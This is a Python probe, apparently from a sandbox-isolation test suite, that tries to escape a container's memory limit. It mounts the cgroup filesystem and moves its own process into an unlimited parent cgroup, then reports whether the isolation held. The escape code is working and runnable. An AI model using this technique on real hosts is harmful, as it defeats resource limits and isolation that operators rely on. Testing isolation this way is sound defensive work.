"""Attack: move oneself into the parent group, where no limit is
Source: cgroup_namespaces(7)
Profiles: basic docker
Weakening: rootful hostcgroup
"""

import os
from pathlib import Path

from probe import call, held, in_child, worked

lines = Path("/proc/self/cgroup").read_text().splitlines()
version_1 = [line for line in lines if line.split(":")[1] == "memory"]
place = Path("/root/groups")


def limited(group: Path) -> bool:
    """On version 2: `docker` has groups of its own, and the one above them is still the sandbox's, with its limit."""
    file = group / "memory.max"
    return file.exists() and file.read_text().strip() != "max"


def leave() -> int:
    line = (version_1 or lines)[-1]
    path = Path(line.split(":", 2)[2])
    for root in (Path("/sys/fs/cgroup/memory" if version_1 else "/sys/fs/cgroup"), place):
        # On version 2 a group that hands its controllers on takes no process: its parents are tried as well, up to the root.
        for parent in [root / above.relative_to("/") for above in path.parents] or [root / ".."]:
            if limited(parent):
                continue
            try:
                (parent / "cgroup.procs").write_text(str(os.getpid()))
            except OSError:
                continue
            if line not in Path("/proc/self/cgroup").read_text().splitlines():
                return 1
    return 0


place.mkdir(exist_ok=True)
if version_1:
    call("mount", b"cgroup", str(place).encode(), b"cgroup", 0, b"memory")
else:
    call("mount", b"cgroup2", str(place).encode(), b"cgroup2", 0, None)
status = in_child(leave)
call("umount2", str(place).encode(), 2)
if status == 1:
    worked("a process left its memory limit")
held("no group above this one is in reach")
